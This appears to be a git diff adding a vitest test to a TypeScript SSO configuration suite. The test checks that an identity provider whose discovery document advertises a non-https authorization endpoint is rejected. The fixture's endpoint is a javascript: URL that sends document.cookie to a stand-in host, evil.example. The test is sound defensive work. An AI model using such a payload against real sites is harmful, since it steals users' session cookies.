@@ -1,3 +1,5 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ALICE, UNVERIFIED, startOAuthFixture } from '../oauth/test-support/oauth-fixture.ts';
 import type { OAuthFixture } from '../oauth/test-support/oauth-fixture.ts';
@@ -271,6 +273,38 @@ describe('console sign-in with the tenant’s SSO', () => {
     expect(signedIn.status).toBe(200);
     expect(JSON.stringify(signedIn.body)).toContain(f.tenant.tenantId);
     expect(JSON.stringify(signedIn.body)).not.toContain(beta.tenantId);
+  });
+
+  it('refuses at PUT a provider whose discovery names a non-https authorization endpoint (javascript:), naming issuer', async () => {
+    const discovery = createServer((req, res) => {
+      const issuer = `http://127.0.0.1:${(discovery.address() as AddressInfo).port}`;
+      if (req.url !== '/.well-known/openid-configuration') return void res.writeHead(404).end();
+      res.writeHead(200, { 'content-type': 'application/json' }).end(
+        JSON.stringify({
+          issuer,
+          authorization_endpoint: 'javascript:fetch("https://evil.example/"+document.cookie)//',
+          token_endpoint: `${issuer}/token`,
+          jwks_uri: `${issuer}/jwks`,
+          response_types_supported: ['code'],
+          subject_types_supported: ['public'],
+          id_token_signing_alg_values_supported: ['RS256'],
+        }),
+      );
+    });
+    await new Promise<void>((resolve) => discovery.listen(0, '127.0.0.1', resolve));
+    try {
+      const put = await f.api('PUT', '/api/v1/mcp/sso', {
+        issuer: `http://127.0.0.1:${(discovery.address() as AddressInfo).port}`,
+        client_id: 'warden',
+        client_secret: 'whatever-secret',
+        allowed_email_domains: ['acme.com'],
+      });
+      expect(put.status, JSON.stringify(put.body)).toBe(400);
+      expect(put.body.error).toMatchObject({ code: 'invalid_request', field: 'issuer' });
+      expect(put.body.error.message).toMatch(/authorization_endpoint is not an https:\/\/ URL/);
+    } finally {
+      await new Promise((resolve) => discovery.close(resolve));
+    }
   });
 
   it('answers a clear 400 for an email no tenant signs in with, and for a bad console_admins entry', async () => {
